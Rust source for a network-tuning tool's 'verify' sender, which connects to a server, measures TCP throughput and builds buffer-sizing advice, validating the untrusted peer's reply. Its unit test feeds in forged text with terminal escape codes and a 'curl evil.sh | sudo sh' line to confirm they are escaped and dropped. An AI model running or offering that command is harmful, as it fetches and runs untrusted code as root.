//! The `verify` throughput test, this end sending: connect to `tcptune serve`, send for the
//! granted time, read the sender's TCP_INFO (Linux) and the receiver's result, and settle what
//! limited the flow ([`super::verdict`]). No printing: progress goes to the caller's callback.
//!
//! The far end is not trusted ([`crate::tcp::proto`]'s Trust section): every phase has a
//! deadline this end computes from `--time` and the protocol's fixed slacks — the connect
//! [`CONNECT_TIMEOUT`], the answer [`proto::ANSWER_SLACK`], the data the time asked for (a
//! server granting more does not lengthen it), the result [`proto::DRAIN_GRACE`] and
//! [`proto::RESULT_SLACK`] — so a test ends by `--time` + 45 s whatever the peer does. The
//! result's numbers are checked against what this end sent before they are read, and its
//! text is shown only when it has the shape of what it claims to be (a sysctl name, numbers),
//! else it is left out with a note quoting it escaped.
//!
//! # Platform specific behavior
//! On FreeBSD and macOS the test runs and reports goodput and the connect-time RTT, but there are
//! no limited-by counters: those fields are null.

use std::net::{IpAddr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use serde::Serialize;

use super::verdict::{AdviceFacts, BufferFacts, VerdictFacts, advice, last_field, settle_verdict};
use super::{BufferCap, cap_key};
use crate::bdp::Source;
use crate::bdp::{self, Sizing};
use crate::error::Error;
use crate::os::Os;
use crate::tcp::proto::{self, ExchangeError, Hello, LineError, ReadError, SentFacts, ServerResult};
use crate::tcp::tcpinfo::{Breakdown, LimitedBy, TcpInfo};
use crate::text;
use crate::units::Bitrate;

/// How long the connect may take: the server's kernel answers a SYN within a round trip,
/// and 5 s are several even on a satellite path with a retransmitted SYN lost to a busy queue.
pub const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// The test to run, with what it needs from beyond the socket, gathered by the caller.
#[derive(Debug, Clone)]
pub struct VerifyRequest {
    /// The host running `tcptune serve`, as the user named it.
    pub host: String,
    /// Its address.
    pub addr: IpAddr,
    pub port: u16,
    /// How long to send; the server grants at most [`proto::MAX_DURATION_MS`].
    pub time: Duration,
    /// The path rate for sizing the advice, when the user gave one.
    pub bandwidth: Option<Bitrate>,
    /// Without `bandwidth`: the speed of this end's link towards the host, bit/s, when known.
    pub link_speed_bps: Option<u64>,
    /// The rate assumed when neither gives one (or the test's goodput, when higher), bit/s.
    pub assumed_rate_bps: u64,
    /// This end's send-buffer cap and its running value.
    pub sender: BufferCap,
}

/// What the test is doing, for a progress display the command draws.
#[derive(Debug, Clone, Copy)]
pub enum Phase {
    /// Sending to `to` for `granted`.
    Sending { to: SocketAddr, granted: Duration },
    /// Done sending; waiting for the receiver's result.
    Sent,
}

#[derive(Debug, Serialize)]
pub struct PathFacts {
    pub bandwidth_bps: u64,
    pub bandwidth_source: Source,
    /// For the flow's minimum RTT, bandwidth / 8 × RTT rounded up to a whole byte.
    pub bdp_bytes: u64,
    pub sizing: Sizing,
}

#[derive(Debug, Serialize)]
pub struct VerifyReport {
    pub host: String,
    pub addr: String,
    /// Sender → receiver: this end sent.
    pub direction: &'static str,
    pub duration_s: f64,
    pub bytes: u64,
    /// Payload bytes the receiver got, per second of its receiving time, in bit/s.
    pub throughput_bps: f64,
    /// The sender's smoothed RTT at the end of the test (Linux), else the connect time.
    pub rtt_ms: f64,
    pub min_rtt_ms: Option<f64>,
    pub rtt_source: &'static str,
    pub cwnd: Option<u32>,
    pub mss: Option<u32>,
    pub delivery_rate_bps: Option<f64>,
    pub retransmitted_pct: Option<f64>,
    pub busy_ms: Option<f64>,
    pub rwnd_limited_pct: Option<f64>,
    pub sndbuf_limited_pct: Option<f64>,
    pub network_limited_pct: Option<f64>,
    pub app_limited_pct: Option<f64>,
    pub limited_by: Option<LimitedBy>,
    pub path: PathFacts,
    pub receiver: BufferFacts,
    pub sender: BufferFacts,
    /// The largest receive window the receiver advertised, bytes (Linux 6.2+ receivers).
    pub receiver_window: Option<u64>,
    pub advice: Vec<String>,
    /// What the receiver sent that was left out, quoted escaped.
    pub notes: Vec<String>,
}

fn measurement(msg: String) -> Error {
    Error::measurement(msg)
}

/// Why `sa` gave no test, for a user of `verify`.
fn refused(sa: SocketAddr, e: ExchangeError) -> Error {
    match e {
        ExchangeError::Send(e) => measurement(format!("{sa} closed the connection: {e}")),
        ExchangeError::NoAnswer(ReadError::Late) => measurement(format!(
            "{sa} gave no complete answer within {} s: is it a tcptune serve?",
            proto::ANSWER_SLACK.as_secs()
        )),
        ExchangeError::NoAnswer(e) => measurement(format!("{sa} gave no answer ({e}): is it a tcptune serve?")),
        ExchangeError::Garbled(e) => measurement(format!("{sa}: {e}")),
        ExchangeError::Busy => {
            measurement(format!("{sa} is busy with another test")).with_hint("try again when it is done")
        }
        ExchangeError::BadVersion(theirs) => Error::usage(format!(
            "{sa} speaks tcptune protocol version {theirs}, this verify speaks {}",
            proto::VERSION
        ))
        .with_hint("use the same tcptune version on both ends"),
    }
}

/// Run the test described by `a` from this end.
pub fn verify(a: &VerifyRequest, on_phase: &mut dyn FnMut(Phase)) -> anyhow::Result<VerifyReport> {
    let sa = SocketAddr::new(a.addr, a.port);
    let (s, connect_ms) = connect(a, sa)?;
    let hello = Hello {
        version: proto::PLAIN_VERSION,
        flags: 0,
        duration_ms: proto::duration_ms(a.time),
    };
    let answer_by = Instant::now() + proto::ANSWER_SLACK;
    let granted = proto::exchange_hello(&s, &hello, &[], answer_by).map_err(|e| refused(sa, e))?;
    on_phase(Phase::Sending { to: sa, granted });
    let started = Instant::now();
    let (sent, elapsed, info) = send(&s, sa, granted)?;
    on_phase(Phase::Sent);
    let result = read_result(&s, sa, sent, started)?;
    Ok(report(
        a,
        &Test {
            addr: sa,
            connect_ms,
            elapsed,
            info,
            result,
        },
    ))
}

/// What a test that ran gave: this end's readings and the receiver's result.
struct Test {
    addr: SocketAddr,
    connect_ms: f64,
    /// The time spent sending.
    elapsed: Duration,
    /// The sender's TCP_INFO at the end of sending (Linux).
    info: Option<TcpInfo>,
    result: ServerResult,
}

/// The control connection, with how long the connect took (the RTT where TCP_INFO gives none).
fn connect(a: &VerifyRequest, sa: SocketAddr) -> anyhow::Result<(TcpStream, f64)> {
    let t0 = Instant::now();
    let s = TcpStream::connect_timeout(&sa, CONNECT_TIMEOUT).map_err(|e| {
        measurement(format!("cannot connect to {sa}: {e}")).with_hint(format!(
            "is `tcptune serve` running on {}, and is port {} open?",
            a.host, a.port
        ))
    })?;
    let connect_ms = t0.elapsed().as_secs_f64() * 1000.0;
    s.set_read_timeout(Some(CONNECT_TIMEOUT))?;
    s.set_write_timeout(Some(CONNECT_TIMEOUT))?;
    Ok((s, connect_ms))
}

/// Sends for the `granted` time: the bytes sent, how long it took, and the sender's TCP_INFO
/// at the end.
fn send(s: &TcpStream, sa: SocketAddr, granted: Duration) -> anyhow::Result<(u64, Duration, Option<TcpInfo>)> {
    // Short write timeouts so the test stops on time even with the send buffer full.
    s.set_write_timeout(Some(Duration::from_millis(50)))?;
    let (sent, elapsed) = crate::tcp::flow::send_data(s, granted, u64::MAX, &mut |_, _| true)
        .map_err(|(sent, e)| measurement(format!("the test to {sa} broke off after {}: {e}", text::bytes(sent))))?;
    Ok((sent, elapsed, crate::tcp::tcpinfo::read(s)))
}

/// Ends the data and waits for the receiver's result ([`proto::result_deadline`]), checked
/// against the `sent` bytes this end sent from `started` on.
fn read_result(s: &TcpStream, sa: SocketAddr, sent: u64, started: Instant) -> anyhow::Result<ServerResult> {
    s.shutdown(std::net::Shutdown::Write)?;
    let by = proto::result_deadline(s, Instant::now());
    let result: ServerResult = proto::read_json_line(s, proto::MAX_RESULT, by).map_err(|e| match e {
        LineError::Read(ReadError::Late) => measurement(format!(
            "no complete result from {sa} in time (it has {} s to take the data, then {} s to answer)",
            proto::DRAIN_GRACE.as_secs(),
            proto::RESULT_SLACK.as_secs()
        )),
        LineError::Read(e) => measurement(format!("no result from {sa}: {e}")),
        LineError::Json(e) => measurement(format!("{sa} sent a result tcptune cannot read ({e})")),
    })?;
    let facts = SentFacts {
        bytes: sent,
        span: started.elapsed(),
    };
    result.check(&facts).map_err(|e| measurement(format!("{sa}: {e}")))?;
    Ok(result)
}

/// What this end read of the flow.
struct Readings {
    /// The receiver's goodput, bit/s.
    throughput: f64,
    rtt_ms: f64,
    rtt_source: &'static str,
    min_rtt_ms: Option<f64>,
    /// The RTT the buffers are sized for: the minimum where TCP_INFO gives it.
    sizing_rtt_ms: f64,
}

impl Readings {
    fn of(t: &Test) -> Self {
        #[allow(clippy::cast_precision_loss)]
        let throughput = if t.result.duration_us == 0 {
            0.0
        } else {
            t.result.bytes as f64 * 8.0 / (t.result.duration_us as f64 / 1e6)
        };
        let min_rtt_ms = t.info.map(|i| i.min_rtt_ms()).filter(|r| *r > 0.0);
        let (rtt_ms, rtt_source) = match t.info.filter(|i| i.tcpi_rtt > 0) {
            Some(i) => (i.rtt_ms(), "tcp_info"),
            None => (t.connect_ms, "connect"),
        };
        Self {
            throughput,
            rtt_ms,
            rtt_source,
            min_rtt_ms,
            sizing_rtt_ms: min_rtt_ms.unwrap_or(rtt_ms),
        }
    }
}

/// The rate the advice is sized for, and where it came from.
fn path_rate(a: &VerifyRequest, throughput: f64) -> (Bitrate, Source) {
    #[allow(clippy::cast_possible_truncation, clippy::cast_sign_loss)]
    match (a.bandwidth, a.link_speed_bps) {
        (Some(b), _) => (b, Source::Given),
        (None, Some(sp)) => (Bitrate::from_bps(sp), Source::Measured),
        // The path carries at least what this test got through.
        (None, None) => (
            Bitrate::from_bps(a.assumed_rate_bps.max(throughput as u64)),
            Source::Assumed,
        ),
    }
}

/// The receiver's buffer as its result tells it (its profile's key when it names none). Text
/// that is not what it claims to be (an OS tcptune knows, a sysctl name, numbers) is left
/// out, with a note in `notes` quoting it escaped.
fn receiver_facts(result: &ServerResult, needed: u64, notes: &mut Vec<String>) -> BufferFacts {
    let os = result.os_name().unwrap_or_else(|sent| {
        notes.push(format!(
            "the receiver named its OS \"{sent}\", which tcptune does not know: read as linux"
        ));
        "linux"
    });
    let receiver_os: Os = match os {
        "freebsd" => Os::Freebsd,
        "macos" => Os::Macos,
        _ => Os::Linux,
    };
    let key = result.buffer_key().unwrap_or_else(|sent| {
        notes.push(format!(
            "the receiver named its buffer key \"{sent}\", which is no sysctl name: left out"
        ));
        None
    });
    let value = result.buffer_value().unwrap_or_else(|sent| {
        notes.push(format!(
            "the receiver gave its buffer value as \"{sent}\", which is no sysctl value: left out"
        ));
        None
    });
    BufferFacts {
        os: os.to_string(),
        key: key.map(str::to_string).or_else(|| cap_key(receiver_os, "buffer")),
        max: value.and_then(last_field),
        value: value.map(str::to_string),
        needed,
    }
}

fn sender_facts(cap: &BufferCap, needed: u64) -> BufferFacts {
    BufferFacts {
        os: cap.os.to_string(),
        key: cap.key.clone(),
        max: cap.value.as_deref().and_then(last_field),
        value: cap.value.clone(),
        needed,
    }
}

/// The kernel's limited-by breakdown with the verdict settled for `flow`, and the share of the
/// bytes retransmitted.
fn verdict(t: &Test, flow: &VerdictFacts<'_>) -> (Option<Breakdown>, Option<f64>) {
    let elapsed_us = u64::try_from(t.elapsed.as_micros()).unwrap_or(u64::MAX);
    let breakdown = t.info.and_then(|i| i.breakdown(Some(elapsed_us))).map(|mut b| {
        b.limited_by = settle_verdict(&b, flow);
        b
    });
    #[allow(clippy::cast_precision_loss)]
    let retransmitted_pct = t
        .info
        .filter(|i| i.tcpi_bytes_sent > 0)
        .map(|i| (1000.0 * i.tcpi_bytes_retrans as f64 / i.tcpi_bytes_sent as f64).round() / 10.0);
    (breakdown, retransmitted_pct)
}

/// The report of test `t`: the readings, the path's sizing, both ends' buffers, the verdict
/// and the advice.
fn report(a: &VerifyRequest, t: &Test) -> VerifyReport {
    let r = Readings::of(t);
    let (rate, rate_source) = path_rate(a, r.throughput);
    let rtt = crate::units::Span::from_millis_f64(r.sizing_rtt_ms);
    let sizing = bdp::size_buffers(rate, rtt, None);
    let mut notes = Vec::new();
    let receiver = receiver_facts(&t.result, sizing.buffer, &mut notes);
    let sender = sender_facts(&a.sender, sizing.send_buffer);
    #[allow(clippy::cast_precision_loss)]
    let delivery_rate_bps = t.info.map(|i| i.tcpi_delivery_rate as f64 * 8.0);
    let flow = VerdictFacts {
        throughput_bps: r.throughput,
        sizing_rtt_ms: r.sizing_rtt_ms,
        rate,
        rate_source,
        receiver: &receiver,
        sender: &sender,
        peer_window: t.info.map(|i| u64::from(i.tcpi_snd_wnd)).filter(|&w| w > 0),
        delivery_rate_bps,
    };
    let (breakdown, retransmitted_pct) = verdict(t, &flow);
    let advice = advice(&AdviceFacts {
        flow,
        breakdown: breakdown.as_ref(),
        retransmitted_pct,
    });
    let path = PathFacts {
        bandwidth_bps: rate.bps(),
        bandwidth_source: rate_source,
        bdp_bytes: bdp::bdp_bytes(rate, rtt),
        sizing,
    };
    VerifyReport {
        host: a.host.clone(),
        addr: t.addr.to_string(),
        direction: "send",
        duration_s: text::ms(t.elapsed.as_secs_f64()),
        bytes: t.result.bytes,
        throughput_bps: r.throughput.round(),
        rtt_ms: text::ms(r.rtt_ms),
        min_rtt_ms: r.min_rtt_ms.map(text::ms),
        rtt_source: r.rtt_source,
        cwnd: t.info.map(|i| i.tcpi_snd_cwnd),
        mss: t.info.map(|i| i.tcpi_snd_mss),
        delivery_rate_bps,
        retransmitted_pct,
        busy_ms: breakdown.map(|b| b.busy_ms),
        rwnd_limited_pct: breakdown.map(|b| b.rwnd_limited_pct),
        sndbuf_limited_pct: breakdown.map(|b| b.sndbuf_limited_pct),
        network_limited_pct: breakdown.map(|b| b.network_limited_pct),
        app_limited_pct: breakdown.and_then(|b| b.app_limited_pct),
        limited_by: breakdown.map(|b| b.limited_by),
        path,
        receiver,
        sender,
        receiver_window: t.result.rcv_wnd,
        advice,
        notes,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::Foreign;

    fn result(os: &str, key: &str, value: &str) -> ServerResult {
        ServerResult {
            bytes: 1,
            duration_us: 1,
            os: Foreign::new(os),
            rcvbuf_key: Some(Foreign::new(key)),
            rcvbuf_value: Some(Foreign::new(value)),
            rcv_wnd: None,
            rcv_buf: None,
            window_share: None,
        }
    }

    #[test]
    fn the_receivers_text_is_used_only_when_it_is_what_it_claims() {
        let mut notes = Vec::new();
        let f = receiver_facts(
            &result("freebsd", "net.inet.tcp.recvbuf_max", "2097152"),
            1 << 20,
            &mut notes,
        );
        assert_eq!(
            (f.os.as_str(), f.key.as_deref(), f.max),
            ("freebsd", Some("net.inet.tcp.recvbuf_max"), Some(2_097_152))
        );
        assert!(notes.is_empty(), "{notes:?}");

        let forged = result(
            "linux\u{1b}]0;owned\u{7}",
            "net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u{1b}[31m",
            "4096 131072 6291456\nadvice: reboot",
        );
        let f = receiver_facts(&forged, 1 << 20, &mut notes);
        // The receiver's profile key stands in; the forged value is no value.
        assert_eq!(
            (f.os.as_str(), f.key.as_deref(), f.value, f.max),
            ("linux", Some("net.ipv4.tcp_rmem"), None, None)
        );
        assert_eq!(notes.len(), 3, "{notes:?}");
        for n in &notes {
            assert!(!n.chars().any(char::is_control), "{n}");
        }
        assert!(
            notes[1].contains("tcp_rmem\\u{a}\\u{a}advice: all good"),
            "{}",
            notes[1]
        );
    }
}
